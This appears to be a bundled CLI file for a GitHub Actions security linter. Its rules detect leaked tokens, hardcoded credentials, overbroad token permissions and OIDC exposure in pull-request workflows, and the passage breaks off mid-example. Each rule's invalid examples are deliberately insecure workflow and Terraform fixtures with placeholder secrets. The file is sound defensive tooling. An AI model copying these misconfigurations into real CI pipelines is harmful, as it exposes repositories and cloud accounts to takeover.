#!/usr/bin/env node
// The Tollgate CLI, bundled: do not edit; run `pnpm run build:cli`.
import { createRequire as __tollgateCreateRequire } from "node:module";
const require = __tollgateCreateRequire(import.meta.url);
import {
  isConfigureAwsCredentials
} from "./chunk-BDUHOVXV.mjs";
import {
  COMPROMISED_ACTIONS,
  PRIVILEGED_UNTRUSTED_TRIGGERS,
  PUBLIC_PULL_REQUEST_TRIGGERS,
  VULNERABLE_ACTIONS,
  actionName,
  adminGrantsOf,
  adminRoleRelated,
  advisoryFor,
  attackerControlledContexts,
  attackerControlledEnv,
  broadestTrust,
  commandPattern,
  commenterChecked,
  credentialFormatIn,
  describeAdminGrants,
  effectivePermissions,
  environmentFileWrites,
  firstUntrustedCheckout,
  githubOidcTrust,
  grantsWrite,
  hasAnyTrigger,
  isFalse2 as isFalse,
  isSecretKey,
  isTrue2 as isTrue,
  jobOf,
  looksLikeSecretValue,
  ownExpressions,
  remoteTarget,
  runScript,
  stepInput,
  stepsOf,
  triggerConfig,
  triggersOf,
  untrustedCheckout,
  usesAction,
  usesLocalAction,
  workflowOf,
  workspaceCodeRun,
  yieldsBoolean
} from "./chunk-IAHTTWI6.mjs";
import {
  allExpressions,
  defineRule,
  expressionsAt,
  parseUses
} from "./chunk-7WD6VUQZ.mjs";
import "./chunk-5PNFQAMN.mjs";
import {
  getPath,
  isObject
} from "./chunk-JNLKQLQK.mjs";
import "./chunk-XLRDP7NM.mjs";

// packages/rules/src/github-actions/iam/gha-checkout-persist-credentials.ts
var gha_checkout_persist_credentials_default = defineRule({
  meta: {
    id: "gha-checkout-persist-credentials",
    title: "actions/checkout leaves the token in the git configuration",
    severity: "low",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "By default `actions/checkout` persists the GITHUB_TOKEN (or the SSH key given to it) in the repository's git configuration so that later steps can push. Every later step, and any artifact that uploads the workspace, can then read it, even steps that never needed to write.",
    remediation: "Set `persist-credentials: false` on the checkout, and pass the token explicitly only to the step that pushes.",
    precision: "medium",
    cwe: ["CWE-522"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "checkout", "ci-insecure-setting"],
    references: ["https://github.com/actions/checkout#usage"]
  },
  check(step, { report }) {
    if (!usesAction(step, "actions/checkout")) return;
    const persist = getPath(step.attributes, ["with", "persist-credentials"]);
    if (isFalse(persist) || typeof persist === "string" && persist.includes("${{")) return;
    report({
      at: persist === void 0 ? ["uses"] : ["with", "persist-credentials"],
      message: "actions/checkout persists credentials in .git/config for every later step; set persist-credentials: false"
    });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          persist-credentials: false
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          repository: acme/tools
          persist-credentials: true
`,
        errors: [
          { line: 6, column: 9, messageIncludes: "persist-credentials" },
          { line: 10, column: 11 }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-hardcoded-credential.ts
function settingScopes(resource) {
  const attributes = resource.attributes;
  switch (resource.type) {
    case "workflow":
      return [{ path: ["env"], value: attributes.env }];
    case "job": {
      const scopes = [
        { path: ["env"], value: attributes.env },
        { path: ["with"], value: attributes.with },
        { path: ["secrets"], value: attributes.secrets }
      ];
      if (isObject(attributes.container)) scopes.push({ path: ["container", "credentials"], value: attributes.container.credentials });
      if (isObject(attributes.services)) {
        for (const [name, service] of Object.entries(attributes.services)) {
          if (isObject(service)) scopes.push({ path: ["services", name, "credentials"], value: service.credentials });
        }
      }
      return scopes;
    }
    default:
      return [
        { path: ["env"], value: attributes.env },
        { path: ["with"], value: attributes.with }
      ];
  }
}
var gha_hardcoded_credential_default = defineRule({
  meta: {
    id: "gha-hardcoded-credential",
    title: "Credential written in the workflow",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "A password, token or key written as a literal in a workflow is readable by everyone who can read the repository, stays in its history after it is removed, and appears in forks. Anyone who finds it can use it until it is rotated.",
    remediation: "Revoke and rotate the credential, store the new one as an encrypted secret (or better, use OIDC federation) and reference it: `${{ secrets.NAME }}`.",
    precision: "medium",
    cwe: ["CWE-798"],
    tags: ["actions", "secrets", "hardcoded-secret"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"]
  },
  check(resource, { report }) {
    for (const { path, value } of settingScopes(resource)) {
      if (!isObject(value)) continue;
      for (const [key, setting] of Object.entries(value)) {
        if (typeof setting !== "string") continue;
        const format = credentialFormatIn(setting);
        if (format) {
          report({ at: [...path, key], message: `${key} holds a hardcoded ${format.name}` });
        } else if (isSecretKey(key) && looksLikeSecretValue(setting)) {
          report({ at: [...path, key], message: `${key} is set to a hardcoded secret value instead of a \${{ secrets.… }} reference` });
        }
      }
    }
    const run = resource.type === "step" ? resource.attributes.run : void 0;
    if (typeof run === "string") {
      const format = credentialFormatIn(run);
      if (format) report({ at: ["run"], message: `the run script holds a hardcoded ${format.name}` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
env:
  REGISTRY_PASSWORD_FILE: /run/secrets/registry
jobs:
  deploy:
    runs-on: ubuntu-latest
    container:
      image: ghcr.io/acme/deployer:2.1.0
      credentials:
        username: deployer
        password: \${{ secrets.GHCR_TOKEN }}
    steps:
      - uses: acme/login-action@6d4b68b490aef8836e8fb5e50ee7b3bdfa5894f0
        with:
          token: \${{ secrets.DEPLOY_TOKEN }}
          token-format: jwt
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
env:
  AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE
jobs:
  deploy:
    runs-on: ubuntu-latest
    container:
      image: ghcr.io/acme/deployer:2.1.0
      credentials:
        username: deployer
        password: Sup3rS3cretPassw0rd
    steps:
      - uses: acme/login-action@6d4b68b490aef8836e8fb5e50ee7b3bdfa5894f0
        with:
          api-key: 9f8e7d6c5b4a39281706f5e4d3c2b1a0
`,
        errors: [
          { line: 3, column: 3, messageIncludes: "AWS access key id" },
          { line: 11, column: 9, messageIncludes: "password" },
          { line: 15, column: 11, messageIncludes: "api-key" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-oidc-token-on-pull-request-target.ts
var gha_oidc_token_on_pull_request_target_default = defineRule({
  meta: {
    id: "gha-oidc-token-on-pull-request-target",
    title: "Workflow run by pull_request_target, issue_comment or workflow_run can mint cloud OIDC tokens",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "`id-token: write` lets a job request OIDC tokens that cloud providers exchange for credentials. Under `pull_request_target`, `issue_comment` or `workflow_run` the job runs in the base repository's trusted context for events anyone can cause (a fork's pull request, a comment), and its token's subject is that of the default branch, which deployment roles usually trust. One step that runs an injected expression or a compromised action then obtains the main branch's cloud credentials. (Jobs that also check out the pull request's code are reported by `gha-untrusted-checkout-id-token`.)",
    remediation: "Do not grant `id-token: write` in workflows triggered by untrusted events. Move the cloud work to a workflow on `push` to a protected branch, or to a job behind an environment with required reviewers.",
    precision: "medium",
    cwe: ["CWE-269"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions", "Dangerous-Workflow"] },
    tags: ["actions", "oidc", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect#adding-permissions-settings"]
  },
  check(resource, { graph, report }) {
    const workflow = resource.type === "workflow" ? resource : workflowOf(resource, graph);
    const triggers = [...triggersOf(workflow)].filter((event) => PRIVILEGED_UNTRUSTED_TRIGGERS.includes(event));
    const grant = idTokenWrite(resource);
    if (!workflow || triggers.length === 0 || !grant) return;
    const jobs = resource.type === "workflow" ? jobsOf(graph, workflow).filter((job) => job.attributes.permissions === void 0) : [resource];
    if (!jobs.some((job) => exposedJob(graph, job))) return;
    const who = resource.type === "workflow" ? "the workflow" : resource.name;
    report({ at: grant, message: `${who} can request OIDC tokens (id-token: write) while running on ${triggers.join(", ")}` });
  },
  examples: {
    valid: [
      {
        name: "id-token on push; pull_request_target without it; a job behind an environment",
        filename: ".github/workflows/deploy.yml",
        code: `on:
  push:
    branches: [main]
permissions:
  id-token: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
`,
        extraFiles: {
          ".github/workflows/label.yml": `on: pull_request_target
permissions:
  pull-requests: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo labelling
  preview:
    runs-on: ubuntu-latest
    environment: preview
    permissions:
      id-token: write
    steps:
      - run: ./preview.sh
`
        }
      }
    ],
    invalid: [
      {
        name: "workflow-level and job-level grants",
        filename: ".github/workflows/preview.yml",
        code: `on:
  pull_request_target:
  workflow_run:
    workflows: [build]
    types: [completed]
permissions:
  id-token: write
jobs:
  preview:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
      contents: read
    steps:
      - run: ./preview.sh
  comment:
    runs-on: ubuntu-latest
    steps:
      - run: ./comment.sh
`,
        errors: [
          { line: 7, column: 3, messageIncludes: "the workflow can request OIDC tokens (id-token: write) while running on pull_request_target, workflow_run" },
          { line: 12, column: 7, messageIncludes: "jobs.preview" }
        ]
      }
    ]
  }
});
function idTokenWrite(resource) {
  const permissions = resource.attributes.permissions;
  if (!grantsWrite(permissions, "id-token")) return void 0;
  return permissions === "write-all" ? ["permissions"] : ["permissions", "id-token"];
}
function jobsOf(graph, workflow) {
  return graph.targets(workflow.id, "contains").filter((child) => child.type === "job");
}
function exposedJob(graph, job) {
  return job.attributes.environment === void 0 && stepsOf(job, graph).length > 0 && !firstUntrustedCheckout(job, graph);
}

// packages/rules/src/github-actions/iam/gha-permissions-missing.ts
var gha_permissions_missing_default = defineRule({
  meta: {
    id: "gha-permissions-missing",
    title: "Workflow does not set GITHUB_TOKEN permissions",
    severity: "low",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow"],
    description: "Without a `permissions:` block at the workflow level or on a job, that job's GITHUB_TOKEN gets the repository's or organisation's default permissions, which are read and write on every scope in repositories created before 2023 and in many organisations. A compromised step then holds more than the job needs, and nothing in the file says what it needs.",
    remediation: "Add `permissions: {}` or `permissions: contents: read` at the top of the workflow and grant each job the scopes it uses (`pull-requests: write`, `packages: write`…).",
    precision: "high",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"]
  },
  check(workflow, { report, graph }) {
    if (workflow.attributes.permissions !== void 0) return;
    const triggers = triggersOf(workflow);
    if (triggers.size === 0 || triggers.size === 1 && triggers.has("workflow_call")) return;
    const jobs = graph.targets(workflow.id, "contains").filter((job) => job.type === "job");
    const unset = jobs.filter((job) => job.attributes.permissions === void 0);
    if (unset.length === 0) return;
    const names = unset.map((job) => job.name.replace(/^jobs\./, ""));
    const which = unset.length === jobs.length ? "any job" : `job${names.length > 1 ? "s" : ""} ${names.join(", ")}`;
    report({
      message: `no permissions block at the workflow level or on ${which}: the GITHUB_TOKEN gets the repository's default permissions, possibly write access to everything`
    });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `name: CI
on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`
      },
      {
        name: "every job sets its own",
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - run: make test
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
  release:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - run: make release
`,
        errors: [{ line: 1, column: 1, messageIncludes: "job test" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-permissions-read-all.ts
var gha_permissions_read_all_default = defineRule({
  meta: {
    id: "gha-permissions-read-all",
    title: "Workflow or job grants the token read access to everything",
    severity: "low",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "`permissions: read-all` lets the GITHUB_TOKEN read every scope: private repository contents, security alerts, deployments, packages, actions logs. Read access is still disclosure: a compromised step in a private repository can copy the code and its vulnerability reports.",
    remediation: "List the scopes the job reads, usually just `contents: read`, or use `permissions: {}` when it needs none.",
    precision: "very-high",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions"]
  },
  check(resource, { report }) {
    if (resource.attributes.permissions === "read-all") {
      report({ at: ["permissions"], message: `${resource.name} gives the GITHUB_TOKEN read-all permissions instead of the scopes it needs` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/scorecard.yml",
        code: `on: push
permissions: read-all
jobs:
  analysis:
    runs-on: ubuntu-latest
    steps:
      - run: make check
`,
        errors: [{ line: 2, column: 1, messageIncludes: "read-all" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-permissions-write-all.ts
var gha_permissions_write_all_default = defineRule({
  meta: {
    id: "gha-permissions-write-all",
    title: "Workflow or job grants the token write access to everything",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "`permissions: write-all` gives the job's GITHUB_TOKEN write access to contents, packages, pull requests, deployments, security events and more. Any step that is compromised (an action, a dependency, an injected script) can then push code, publish packages or approve its own changes.",
    remediation: "Set `permissions: {}` at the workflow level (or `contents: read`) and grant each job only the scopes it uses, e.g. `issues: write` for a labelling job.",
    precision: "very-high",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"]
  },
  check(resource, { report }) {
    if (resource.attributes.permissions === "write-all") {
      report({ at: ["permissions"], message: `${resource.name} gives the GITHUB_TOKEN write access to every scope` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      checks: write
    steps:
      - run: make test
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
permissions: write-all
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: write-all
    steps:
      - run: make test
`,
        errors: [
          { line: 2, column: 1 },
          { line: 6, column: 5 }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-pull-request-workflow-assumes-admin-role.ts
var PULL_REQUEST_TRIGGERS = ["pull_request_target", "pull_request", "issue_comment", "workflow_run"];
var gha_pull_request_workflow_assumes_admin_role_default = defineRule({
  meta: {
    id: "gha-pull-request-workflow-assumes-admin-role",
    title: "Workflow triggered by pull requests or comments assumes an AWS administrator role any branch can assume",
    severity: "high",
    category: "iam",
    platforms: ["github-actions", "terraform"],
    resourceTypes: ["step"],
    description: "A workflow that runs on `pull_request`, `pull_request_target`, `issue_comment` or `workflow_run` assumes, through `aws-actions/configure-aws-credentials`, an IAM role that is an administrator of the AWS account and whose trust policy accepts the OIDC token of any branch or pull request (a `sub` of `repo:org/repo:*`, `repo:org/*`, or none). Whoever can open a pull request or push a branch, or get code to run in such a workflow (a checkout of the pull request's head, an injected title), becomes an administrator of the account.",
    remediation: "Assume a read-only role in pull-request workflows. Keep the administrator (or deploying) role for workflows on protected branches or environments, and restrict its trust policy's `token.actions.githubusercontent.com:sub` to `repo:org/repo:ref:refs/heads/main` or `repo:org/repo:environment:production`.",
    precision: "high",
    cwe: ["CWE-269", "CWE-863"],
    tags: ["actions", "oidc", "aws", "iam-wildcard", "ci-untrusted-checkout"],
    references: [
      "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-amazon-web-services",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ]
  },
  check(step, { graph, report }) {
    if (!isConfigureAwsCredentials(step.attributes.uses)) return;
    const job = jobOf(step, graph);
    const workflow = workflowOf(step, graph);
    if (!job || !workflow) return;
    if (job.attributes.environment !== void 0) return;
    const triggers = [...triggersOf(workflow)].filter((event) => PULL_REQUEST_TRIGGERS.includes(event));
    if (triggers.length === 0) return;
    for (const role of graph.targets(step.id, "assumes")) {
      const trust = broadestTrust(githubOidcTrust(graph, role).filter((candidate) => acceptsRunsOf(candidate, triggers)));
      if (!trust) continue;
      const grants = adminGrantsOf(graph, role);
      if (grants.length === 0) continue;
      const subjects = trust.subjects.length === 0 ? "no sub condition" : `sub ${trust.subjects.map((subject) => `"${subject}"`).join(", ")}`;
      report({
        at: ["with", "role-to-assume"],
        message: `runs on ${triggers.join(", ")} and assumes ${role.name}, an AWS administrator role through ${describeAdminGrants(grants)} that trusts ${subjects}`,
        related: [
          { resource: workflow.id, at: ["on"], message: `triggered by ${triggers.join(", ")}` },
          { resource: trust.resource.id, at: trust.at, message: `the trust policy accepts ${subjects}` },
          ...adminRoleRelated({ role, grants })
        ]
      });
      return;
    }
  },
  examples: {
    valid: [
      {
        name: "the same role assumed on push to main",
        filename: ".github/workflows/deploy.yml",
        code: `on:
  push:
    branches: [main]
permissions:
  id-token: write
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/github-admin
          aws-region: eu-west-1
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "github_admin" {
  name = "github-admin"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:*" } }
    }]
  })
  managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]
}
`
        }
      },
      {
        name: "pull requests assume a role that only main can assume",
        filename: ".github/workflows/plan.yml",
        code: `on: pull_request
permissions:
  id-token: write
  contents: read
jobs:
  plan:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/github-admin
          aws-region: eu-west-1
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "github_admin" {
  name = "github-admin"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringEquals = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:ref:refs/heads/main" } }
    }]
  })
  managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]
}
`
        }
      }
    ],
    invalid: [
      {
        name: "pull_request_target, any-ref trust, AdministratorAccess",
        filename: ".github/workflows/preview.yml",
        code: `on:
  pull_request_target:
    types: [opened, synchronize]
permissions:
  id-token: write
  contents: read
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/github-admin
          aws-region: eu-west-1
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "github_admin" {
  name = "github-admin"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:*" } }
    }]
  })
}

resource "aws_iam_role_policy_attachment" "github_admin" {
  role       = aws_iam_role.github_admin.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
`
        },
        errors: [{ file: ".github/workflows/preview.yml", line: 14, column: 11, messageIncludes: "runs on pull_request_target and assumes aws_iam_role.github_admin" }]
      }
    ]
  }
});
function acceptsRunsOf(trust, triggers) {
  return triggers.some((event) => event === "pull_request" ? trust.reach.pullRequests : trust.reach.anyBranch);
}

// packages/rules/src/github-actions/iam/gha-pull-request-write-permissions.ts
var DANGEROUS_SCOPES = ["contents", "actions", "packages", "deployments", "pages", "repository-projects"];
var gha_pull_request_write_permissions_default = defineRule({
  meta: {
    id: "gha-pull-request-write-permissions",
    title: "Pull request workflow grants write access to code, packages or workflows",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "Workflows started by pull requests run code and actions on content the pull request's author controls. Write access to `contents`, `actions`, `packages` or `deployments` in such a workflow turns any injection or compromised dependency into a push to the default branch, a tampered release or a published package.",
    remediation: "Keep pull request workflows read-only (`contents: read`); grant `pull-requests: write` or `checks: write` if they comment or report. Do writes that need more in a workflow triggered by `push` or `release`.",
    precision: "medium",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "pull_request", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"]
  },
  check(resource, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(resource, graph)), ["pull_request_target", "pull_request"]);
    const permissions = resource.attributes.permissions;
    if (!trigger || !isObject(permissions)) return;
    for (const scope of DANGEROUS_SCOPES) {
      if (permissions[scope] !== "write") continue;
      report({ at: ["permissions", scope], message: `${resource.name} grants ${scope}: write in a ${trigger} workflow; pull request code and actions then hold excessive permissions` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: pull_request
permissions:
  contents: read
  pull-requests: write
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`
      },
      {
        name: "write access on push only",
        filename: ".github/workflows/release.yml",
        code: `on:
  push:
    tags: ["v*"]
permissions:
  contents: write
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: make release
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: pull_request_target
jobs:
  format:
    runs-on: ubuntu-latest
    permissions:
      contents: write
      pull-requests: write
    steps:
      - run: make fmt
`,
        errors: [{ line: 6, column: 7, messageIncludes: "contents: write" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-secrets-inherit.ts
var gha_secrets_inherit_default = defineRule({
  meta: {
    id: "gha-secrets-inherit",
    title: "Reusable workflow call passes every secret",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["job"],
    description: "`secrets: inherit` hands the called workflow every secret of the calling repository and organisation, not just the ones it uses. A compromised or later-modified called workflow (especially one pinned to a branch or tag) can read them all.",
    remediation: "Pass only the secrets the called workflow declares: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.",
    precision: "very-high",
    cwe: ["CWE-250"],
    tags: ["actions", "secrets", "reusable-workflows"],
    references: ["https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow"]
  },
  check(job, { report }) {
    if (typeof job.attributes.uses === "string" && job.attributes.secrets === "inherit") {
      report({ at: ["secrets"], message: `${job.name} passes every secret of the repository to ${job.attributes.uses} with secrets: inherit` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on: push
jobs:
  publish:
    uses: acme/workflows/.github/workflows/npm-publish.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3
    secrets:
      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on: push
jobs:
  publish:
    uses: acme/workflows/.github/workflows/npm-publish.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3
    secrets: inherit
`,
        errors: [{ line: 5, column: 5, messageIncludes: "secrets: inherit" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-secrets-to-json.ts
var gha_secrets_to_json_default = defineRule({
  meta: {
    id: "gha-secrets-to-json",
    title: "Every secret is passed to one step",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "`toJSON(secrets)` serialises all the secrets available to the workflow (repository, environment and organisation secrets) into one value. Whatever receives it, a script or an action, holds every credential instead of the one it needs, and a single leak exposes them all.",
    remediation: "Pass each secret the step needs by name: `env: NPM_TOKEN: ${{ secrets.NPM_TOKEN }}`.",
    precision: "very-high",
    cwe: ["CWE-250"],
    tags: ["actions", "secrets"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"]
  },
  check(resource, { report }) {
    for (const { expression, path, range } of ownExpressions(resource)) {
      if (/\btoJSON\s*\(\s*secrets\s*\)/i.test(expression)) {
        report({ at: path, range, message: `\${{ ${expression} }} hands every secret of the workflow to ${resource.name}` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          ALL_SECRETS: \${{ toJSON(secrets) }}
`,
        errors: [{ line: 8, column: 24 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-untrusted-checkout-id-token.ts
var gha_untrusted_checkout_id_token_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout-id-token",
    title: "Job that checks out pull request code can mint OIDC tokens",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["job"],
    description: "`id-token: write` lets any step of the job request an OpenID Connect token for this repository, which cloud providers exchange for credentials (an AWS role, a GCP service account, a package registry). In a `pull_request_target`, `workflow_run` or `issue_comment` job that checks out a pull request's code, that code can request the token and act as the repository in the cloud.",
    remediation: "Do not grant `id-token: write` to jobs that handle pull request code. Move the deployment or publishing to a separate job that only runs trusted code, or to a workflow triggered by `push` or `release`.",
    precision: "high",
    cwe: ["CWE-269", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions", "Dangerous-Workflow"] },
    tags: ["actions", "oidc", "pull_request_target", "ci-token-permissions"],
    references: [
      "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ]
  },
  check(job, { report, graph }) {
    const workflow = workflowOf(job, graph);
    const trigger = hasAnyTrigger(triggersOf(workflow), PRIVILEGED_UNTRUSTED_TRIGGERS);
    if (!trigger) return;
    const permissions = effectivePermissions(job, workflow);
    if (!permissions || !grantsWrite(permissions.value, "id-token")) return;
    const checkout = firstUntrustedCheckout(job, graph);
    if (!checkout) return;
    const grant = permissions.value === "write-all" ? ["permissions"] : ["permissions", "id-token"];
    const message = `the ${trigger} job ${job.name} checks out pull request code (${checkout.checkout.what}) while holding id-token: write: that code can mint OIDC tokens for cloud credentials`;
    if (permissions.from === job) report({ at: grant, message });
    else report({ message, related: [{ resource: permissions.from.id, at: grant, message: "id-token: write granted here" }] });
  },
  examples: {
    valid: [
      {
        name: "OIDC only in a push workflow",
        filename: ".github/workflows/deploy.yml",
        code: `on:
  push:
    branches: [main]
permissions:
  contents: read
  id-token: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - run: ./deploy.sh
`
      }
    ],
    invalid: [
      {
        name: "pull_request_target preview deploy with OIDC",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/preview
          aws-region: eu-west-1
`,
        errors: [{ line: 7, column: 7, messageIncludes: "id-token: write" }]
      },
      {
        name: "granted at the workflow level",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
permissions:
  id-token: write
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
